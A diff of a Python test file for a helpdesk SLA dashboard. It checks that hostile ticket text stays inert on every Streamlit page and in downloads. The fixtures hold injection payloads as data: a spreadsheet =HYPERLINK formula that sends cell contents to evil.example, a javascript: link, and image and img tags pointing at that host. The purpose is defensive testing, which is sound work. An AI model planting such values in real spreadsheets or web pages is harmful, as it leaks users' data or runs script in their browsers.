@@ -1,13 +1,15 @@
-"""Ticket text is written by anyone who can type into the helpdesk: the downloads never carry a live
-spreadsheet formula taken from it.
+"""Ticket text is written by anyone who can type into the helpdesk: it is never interpreted on screen,
+and the downloads never carry a live spreadsheet formula taken from it.
 
-The fixture database gets three breached Acme tickets whose id, team, category, agent and channel
-begin with a formula character (``=HYPERLINK(...)``, ``+``, ``-``, ``@``, a tab).
+The fixture database gets breached Acme tickets whose id, team, category, agent and channel begin
+with a formula character (``=HYPERLINK(...)``, ``+``, ``-``, ``@``, a tab) or hold Markdown and HTML
+(an image, a link, a tag, a Streamlit icon directive), and an uncovered client of such a name.
 """
 from __future__ import annotations
 
 import csv
 import io
+import re
 import shutil
 
 import polars as pl
@@ -21,6 +23,10 @@ from slametrics.policy import load_policy
 from tests.dashboard.helpers import open_page
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1"]
+MARKUP = ["![x](http://evil.example/team.png)", "[click](javascript:alert(1))", "<img src=http://evil.example/a.png>",
+          ":material/home: **bold** $x^2$"]
+#: what would show that Markdown or HTML was left to be interpreted: an unescaped image, link, tag or directive
+LIVE = ("![", "](", "<img", ":material/home:", "**bold**", "$x^2$")
 
 
 @pytest.fixture
@@ -31,6 +37,10 @@ def hostile_env(app_env, tmp_path, monkeypatch):
              "created_at": f"2026-03-0{i + 1}T10:00:00Z", "first_response_at": f"2026-03-0{i + 1}T15:00:00Z",
              "resolved_at": f"2026-03-0{i + 1}T20:00:00Z", "team": text, "category": text, "agent": text,
              "channel": text} for i, text in enumerate(HOSTILE)]
+    rows += [{"ticket_id": f"M-{i}", "client": "Acme", "priority": "P1", "created_at": f"2026-03-1{i}T10:00:00Z",
+              "first_response_at": f"2026-03-1{i}T15:00:00Z", "resolved_at": f"2026-03-1{i}T20:00:00Z",
+              "team": text, "category": text, "agent": text, "channel": text} for i, text in enumerate(MARKUP)]
+    rows.append({"ticket_id": "X-1", "client": MARKUP[0], "priority": "P1", "created_at": "2026-03-20T10:00:00Z"})
     con = connect(db)
     try:
         ingest_frames(con, pl.DataFrame(rows), None, source="hostile.csv", policy=load_policy(app_env[1]))
@@ -73,3 +83,27 @@ def test_no_download_carries_a_live_formula(hostile_env, downloads):
         assert r["team"] == r["category"] == r["agent"] == r["channel"] == r["ticket_id"].rsplit("#", 1)[0]
     # 5h to answer a 30m P1 response, 10h to resolve an 8h P1 (round the clock): the figures are untouched
     assert sorted({r["overrun_seconds"] for r in hostile}) == ["16200", "7200"]
+
+
+def markdown_sources(at) -> list[str]:
+    """The source of everything Streamlit renders as Markdown on the page and in the sidebar."""
+    out = []
+    for kind in ("title", "header", "subheader", "markdown", "caption", "info", "warning", "error", "success"):
+        out += [str(e.value) for e in at.get(kind)]
+    out += [m.label for m in at.metric]
+    return out
+
+
+@pytest.mark.parametrize("page", [None, "trends", "breaches", "credits", "whatif", "data", "policy"])
+def test_ticket_text_is_shown_as_text_on_every_page(hostile_env, page):
+    # the hostile values are also chosen in the filters, so they reach the captions that name a view
+    at = open_page(page, user="pat", team=[MARKUP[0], MARKUP[2]], category=[MARKUP[1]], channel=[MARKUP[3]])
+    sources = markdown_sources(at)
+    assert sources
+    unescaped = [re.sub(r"\\.", "", s) for s in sources]  # what Markdown would still act on
+    live = [s for s in unescaped if any(mark in s for mark in LIVE)]
+    assert not live, live
+    if page in (None, "trends", "breaches"):
+        assert any("evil\\.example" in s for s in sources)  # the values are there, escaped
+    if page == "data":
+        assert any("\\!\\[x\\]" in w.value for w in at.warning)  # the uncovered client's name
